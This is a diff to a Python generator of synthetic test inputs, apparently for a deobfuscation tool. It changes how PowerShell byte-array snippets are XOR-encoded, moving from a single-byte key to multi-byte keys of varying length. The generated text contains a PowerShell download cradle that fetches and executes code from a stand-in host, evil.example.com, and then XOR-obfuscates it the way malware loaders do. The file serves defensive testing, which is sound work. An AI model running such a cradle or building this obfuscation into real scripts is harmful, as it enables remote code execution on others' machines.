@@ -229,9 +229,11 @@ def snippet(rng, words, depth=0):
         tail = rng.choice([b"", b"", b"; $o = $b | % { $_ -bxor $k }", b" -bxor $key"])
         if tail:
             # a non-literal key sends the array through xortool's key search, which needs minutes and
-            # gigabytes on text-like arrays (base64, repeated words); single-byte-xored prose is cheap
+            # gigabytes on text-like arrays (base64, repeated words); xored prose is cheap
             prose = (b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example.com/a') ; " + p.replace(b"\0", b" ") + b" ; ") * 8
-            body = bytes(c ^ 0x5A for c in prose[:520])
+            klen = rng.choice([1, 3, 5, 11, 23, 61])  # the key-length search visits 1..65 in order
+            key = bytes(33 + (7 * i * i + 3 * i + klen) % 90 for i in range(klen))
+            body = bytes(c ^ key[i % klen] for i, c in enumerate(prose[:520]))
         else:
             body = (p * (1 + 520 // max(1, len(p))))[:520]
         return b"[Byte[]] $b = " + b",".join(b"%d" % c for c in body) + tail
